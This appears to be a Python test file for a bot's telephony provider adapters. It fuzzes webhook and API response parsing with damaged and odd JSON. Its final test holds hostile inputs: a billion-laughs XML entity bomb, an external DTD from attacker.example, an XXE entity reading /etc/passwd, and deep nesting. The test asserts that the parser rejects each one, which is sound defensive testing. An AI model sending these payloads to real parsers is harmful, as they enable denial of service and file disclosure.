"""What every provider must keep when what comes is damaged, odd or hostile: it means what it did, or is unreadable."""

import json
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.errors import ProviderError, Unreadable
from bot.events import AnyEvent
from bot.hooks import Answer, Request
from bot.operations import operations
from bot.provider import Provider
from bot.providers import provider_class
from tests.provider_samples import (
    DIALS,
    KINDS,
    RECEIVED_AT,
    Raw,
    arguments,
    assert_no_secret,
    configured,
    conversation,
    meaning,
    offline,
    raw,
    sample_files,
    successful,
    webhook_request,
)


def with_another(member: bytes) -> Callable[[bytes], bytes]:
    """The object with one more member at its end."""
    return lambda body: body.rstrip()[:-1].rstrip(b",") + (b", " if body.strip() != b"{}" else b"") + member + b"}"


NO_MATTER: dict[str, Callable[[bytes], bytes]] = {
    "byte order mark": lambda body: b"\xef\xbb\xbf" + body,
    "another encoding": lambda body: body.decode().encode("utf-16"),
    "line ends and a nul": lambda body: b"\r\n" + body + b"\r\n\0",
    "a list of one": lambda body: b"[" + body + b"]",
    "text once more": lambda body: json.dumps(body.decode()).encode(),
    "another charset": with_another(b'"more": "caf\xe9"'),
    "half a character": with_another(b'"more": "\\ud83d"'),
    "no number": with_another(b'"more": [NaN, -Infinity, 1e999]'),
    "a large number": with_another(b'"more": ' + b"9" * 5000),
    "a line break": with_another(b'"more": "one\ntwo"'),
    "a comma too many": with_another(b""),
    "more members": with_another(b'"more": {"": [1, null, {"id": {}}]}, "MORE": ""'),
}
"""What may be wrong with a JSON object whose every member can still be read."""


@pytest.mark.parametrize("damage", NO_MATTER)
@pytest.mark.parametrize("kind", [kind for kind in KINDS if provider_class(kind).hook_paths])
def test_damage_that_does_not_matter_loses_no_webhook(kind: str, damage: str) -> None:
    tried = 0
    for file in sample_files(kind, "webhooks"):
        told, request = meaning(file), webhook_request(raw(file.read_bytes()))
        if "raises" in told or not is_object(request.body):
            continue
        provider = configured(kind, offline, told.get("region", "IL"))
        whole = provider.read_webhook(request)
        damaged = provider.read_webhook(msgspec.structs.replace(request, body=NO_MATTER[damage](request.body)))
        assert (damaged.events, damaged.question) == (whole.events, whole.question), file.stem
        tried += 1
    assert tried


def is_object(body: bytes) -> bool:
    try:
        return body.startswith(b"{") and isinstance(json.loads(body), dict)
    except ValueError:
        return False


ODD: tuple[Any, ...] = (
    *(None, "", "null", True, 0, -1, 1e300, 10**25, "9" * 400, "NaN", "-inf", "1.5", "٣", [], {}, [None], {"id": [1]}),
    *("1970-01-01T00:00:00", "2099-12-31 23:59:59+14:00", "0001-01-01T00:00:00Z", 1_700_000_000_000, "<!channel>"),
)
"""What a member may hold in place of what it should."""


@pytest.mark.parametrize("kind", [kind for kind in KINDS if provider_class(kind).hook_paths])
def test_one_odd_member_loses_no_webhook(kind: str) -> None:
    """Where it can be read without it: an odd value says no more than none, and what is told can be kept and shown."""
    for file in sample_files(kind, "webhooks"):
        told, request = meaning(file), webhook_request(raw(file.read_bytes()))
        if not told.get("events") or not is_object(request.body):
            continue
        provider, members = configured(kind, offline, told.get("region", "IL")), json.loads(request.body)
        refs = {one.ref for one in provider.read_webhook(request).events}
        for name, value in members.items():
            without = {other: value for other, value in members.items() if other != name}
            if str(value) in refs or not reads(provider, request, without):
                continue
            for odd in ODD:
                damaged = {**members, name: odd}
                events = reads(provider, request, damaged)
                assert events is not None, (file.stem, name, odd)
                assert {one.ref for one in events} <= refs, (file.stem, name, odd)
                assert all(map(plausible, events)), (file.stem, name, odd)


def reads(provider: Provider, request: Request, members: dict[str, Any]) -> tuple[AnyEvent, ...] | None:
    """The events of these members, None = they cannot be read."""
    try:
        events = provider.read_webhook(msgspec.structs.replace(request, body=json.dumps(members).encode())).events
    except Unreadable:
        return None
    assert msgspec.json.decode(msgspec.json.encode(events), type=tuple[AnyEvent, ...]) == events
    return events


def plausible(one: AnyEvent) -> bool:
    """Of a time that calendars have, and a length that a call may have."""
    seconds = [getattr(one, name, 0) for name in ("ring_seconds", "talk_seconds", "wait_seconds", "seconds")]
    return 946_684_800 <= one.at < 4_103_000_000 and all(0 <= each < 10**8 for each in seconds)


@pytest.mark.parametrize("damage", NO_MATTER)
@pytest.mark.parametrize("kind", KINDS)
async def test_damage_that_does_not_matter_leaves_an_answer_as_it_is(kind: str, damage: str, tmp_path: Path) -> None:
    """What was done is known to be done, and what was refused to be refused: nobody has to look at their phone."""
    tried = 0
    for name in operations():
        for file in sample_files(kind, f"operations/{name}"):
            told, exchanges = meaning(file), conversation(file)
            if not all(is_object(response.body) for _, response in exchanges):
                continue

            def answer(request: httpx.Request, exchanges: list[tuple[Raw, Raw]] = exchanges) -> httpx.Response:
                response = exchanges.pop(0)[1]
                content = NO_MATTER[damage](response.body)
                return httpx.Response(int(response.start[1]), headers=response.headers, content=content)

            act = getattr(configured(kind, answer, told.get("region", "IL")), name)
            raised = ""
            try:
                await act(**arguments(name, told, tmp_path))
            except ProviderError as error:
                raised = type(error).__name__
            assert raised == told.get("raises", {"error": ""})["error"], file.stem
            tried += 1
    assert tried


@pytest.mark.parametrize("kind", KINDS)
async def test_one_odd_member_of_an_answer_has_a_meaning(kind: str, tmp_path: Path) -> None:
    """It is done, refused, unclear, or for later; and what dials was sent once."""
    for name in operations():
        for file in successful(kind, name)[:3]:
            told, exchanges = meaning(file), conversation(file)
            body = exchanges[-1][1].body
            for damaged in with_odd_members(json.loads(body)) if is_object(body) else ():
                sent: list[httpx.Request] = []

                def answer(
                    request: httpx.Request,
                    sent: list[httpx.Request] = sent,
                    exchanges: list[tuple[Raw, Raw]] = exchanges,
                    damaged: object = damaged,
                ) -> httpx.Response:
                    sent.append(request)
                    response = exchanges[min(len(sent), len(exchanges)) - 1][1]
                    content = json.dumps(damaged).encode() if len(sent) >= len(exchanges) else response.body
                    return httpx.Response(int(response.start[1]), headers=response.headers, content=content)

                provider = configured(kind, answer, told.get("region", "IL"))
                try:
                    result = await getattr(provider, name)(**arguments(name, told, tmp_path))
                except ProviderError as error:
                    assert_no_secret(error)
                else:
                    msgspec.json.encode(result)
                    several = result if isinstance(result, tuple) else (result,)
                    assert all(plausible(one) for one in several if hasattr(one, "at") and hasattr(one, "ref")), damaged
                assert len(sent) <= len(exchanges) or name not in DIALS
                provider.notices()


def with_odd_members(told: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """The object with one odd member, in it or in an object inside it."""
    for name, value in told.items():
        for odd in ODD[::2]:
            yield {**told, name: odd}
        inside = value[0] if isinstance(value, list) and value else value
        if isinstance(inside, dict):
            for damaged in with_odd_members(inside):
                yield {**told, name: [damaged, *value[1:]] if isinstance(value, list) else damaged}


def readable(kind: str, request: Request) -> None:
    provider = configured(kind, offline)
    try:
        webhook = provider.read_webhook(request)
    except Unreadable:
        return
    assert all(one.key for one in webhook.events)
    if webhook.question is not None:
        provider.write_answer(webhook.question, Answer())


def requests(kind: str) -> st.SearchStrategy[Request]:
    """Anything at all, and samples with something wrong in them."""
    samples = [webhook_request(raw(file.read_bytes())) for file in sample_files(kind, "webhooks")]
    paths = st.sampled_from(sorted(provider_class(kind).hook_paths)) | st.text(max_size=8)
    names = st.sampled_from(sorted({name for one in samples for name, _ in one.query} | {"id"})) | st.text(max_size=8)
    types = ["application/json", "application/x-www-form-urlencoded", "text/xml", "text/plain", "multipart/form-data"]
    headers: Sequence[dict[str, str]] = [{}, *({"content-type": media_type} for media_type in types)]
    anything = st.builds(
        Request,
        method=st.sampled_from(["GET", "POST", "PUT"]),
        path=paths,
        query=st.lists(st.tuples(names, st.text(max_size=12)), max_size=6).map(tuple),
        headers=st.sampled_from(headers),
        body=st.binary(max_size=60) | st.recursive(json_leaves, json_nodes).map(lambda told: json.dumps(told).encode()),
        received_at=st.just(RECEIVED_AT),
    )
    return anything | st.builds(damaged, st.sampled_from(samples), st.integers(0, 4000), st.binary(max_size=4), names)


json_leaves = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8)


def json_nodes(children: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)


def damaged(request: Request, place: int, splinter: bytes, name: str) -> Request:
    """A sample with a few bytes of its body replaced, and one value of its query too."""
    at = place % (len(request.body) + 1)
    body = request.body[:at] + splinter + request.body[at + len(splinter) :]
    query = tuple((key, splinter.decode(errors="replace") if key == name else value) for key, value in request.query)
    return Request(request.method, request.path, query, request.headers, body, request.received_at)


TELLING = [kind for kind in KINDS if sample_files(kind, "webhooks")]


@pytest.mark.parametrize("kind", sorted(set(KINDS) - set(TELLING)))
def test_a_service_without_webhooks_reads_none(kind: str) -> None:
    assert not provider_class(kind).hook_paths
    with pytest.raises(Unreadable, match="sends no webhooks"):
        configured(kind, offline).read_webhook(Request("POST", "", (), {}, b"{}", RECEIVED_AT))


@pytest.mark.parametrize("kind", TELLING)
def test_whatever_comes_is_read_or_unreadable(kind: str) -> None:
    @given(requests(kind))
    def check(request: Request) -> None:
        readable(kind, request)

    check()


BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%s;" % (b"" if n == 1 else b"%d" % (n - 1)) * 10) for n in range(1, 10)
    )
    + b"]><methodCall><methodName>&lol9;</methodName></methodCall>"
)
DTD = b'<?xml version="1.0"?><!DOCTYPE methodCall SYSTEM "http://attacker.example/x.dtd"><methodCall/>'
FILE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><methodCall><methodName>&b;</methodName></methodCall>'
DEEP = b"<a>" * 200_000
LONG = b"{" * 200_000


@pytest.mark.parametrize("body", [BOMB, DTD, FILE, DEEP, LONG], ids=["bomb", "dtd", "file", "deep xml", "deep json"])
@pytest.mark.parametrize("media_type", ["text/xml", "application/json", "text/plain"])
@pytest.mark.parametrize("kind", KINDS)
def test_hostile_documents_are_unreadable(kind: str, media_type: str, body: bytes) -> None:
    provider = configured(kind, offline)
    for path in provider.hook_paths:
        with pytest.raises(Unreadable):
            provider.read_webhook(Request("POST", path, (), {"content-type": media_type}, body, RECEIVED_AT))
